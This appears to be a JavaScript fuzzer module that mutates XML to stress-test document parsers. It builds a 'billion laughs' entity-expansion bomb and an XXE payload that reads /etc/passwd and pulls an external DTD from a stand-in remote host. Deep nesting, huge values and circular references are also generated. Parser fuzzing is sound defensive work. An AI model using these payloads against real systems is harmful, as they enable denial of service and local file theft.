const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.replace(/./g, (name, k) => `<!ENTITY ${name} "${`&${'abcdefghi'[k]};`.repeat(10)}">`)}]>`;
const outside = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>';
const numbers = ['-1', '0', '99999999999999999999', '4294967295', '1e308', 'NaN', '', '0x7fffffff'];

const root = /(<[A-Za-z_][^>]*>)/;

const nestDeep = (xml, { pick, below }) => {
  const tags = xml.match(/<[\w:]+/g) ?? ['<x'];
  const name = pick(tags).slice(1);
  const depth = pick([50, 300, 5000, 100_000]);
  const at = xml.indexOf('>', below(xml.length)) + 1;
  return xml.slice(0, at) + `<${name}>`.repeat(depth) + (below(2) ? `</${name}>`.repeat(depth) : '') + xml.slice(at);
};
const entities =
  (declaration) =>
  (xml, { below }) => {
    const at = xml.search(root);
    if (at < 0) return xml;
    const text = xml.indexOf('>', at + below(xml.length - at)) + 1;
    return `${xml.slice(0, at)}${declaration}${xml.slice(at, text)}&j;&a;${xml.slice(text)}`;
  };
const growNumbers = (xml, { pick, chance }) => xml.replace(/="\d+"/g, (all) => (chance(0.1) ? `="${pick(numbers)}"` : all));
const loseTags = (xml, { chance }) => xml.replace(/<[^>]+>/g, (tag) => (chance(0.02) ? '' : tag));
const swapNames = (xml, { pick }) => {
  const names = xml.match(/[\w]+:[\w]+/g) ?? [];
  return names.length === 0 ? xml : xml.replaceAll(pick(names), pick(names));
};
const repeatElement = (xml, { pick, below }) => {
  const from = xml.indexOf('<', below(xml.length));
  const to = xml.indexOf('>', from + below(2000));
  return from < 0 || to < 0 ? xml : xml.slice(0, to + 1) + xml.slice(from, to + 1).repeat(pick([2, 50, 2000])) + xml.slice(to + 1);
};
const circle = (xml, { pick }) => {
  const ids = xml.match(/(?:styleId|w:val|style:name|parent-style-name|Id|r:id|r:embed|xlink:href|Target)="[^"]*"/g) ?? [];
  return ids.length === 0 ? xml : xml.replaceAll(pick(ids).replace(/^[^"]*/, ''), pick(ids).replace(/^[^"]*/, ''));
};
const longText = (xml, { pick, below }) => {
  const at = xml.indexOf('>', below(xml.length)) + 1;
  return xml.slice(0, at) + pick(['x', 'Wort ', '&amp;', '(', '1. ', '\u202e']).repeat(pick([1000, 50_000])) + xml.slice(at);
};

const mutations = [nestDeep, entities(laughs), entities(outside), growNumbers, loseTags, swapNames, repeatElement, circle, longText];

/** What breaks readers of XML: nesting, entities, circles, numbers, elements in places where none are allowed. */
export function mutateXml(bytes, random) {
  let xml = bytes.toString('utf8');
  for (let n = 1 + random.below(2); n > 0; n--) xml = random.pick(mutations)(xml, random);
  return Buffer.from(xml);
}
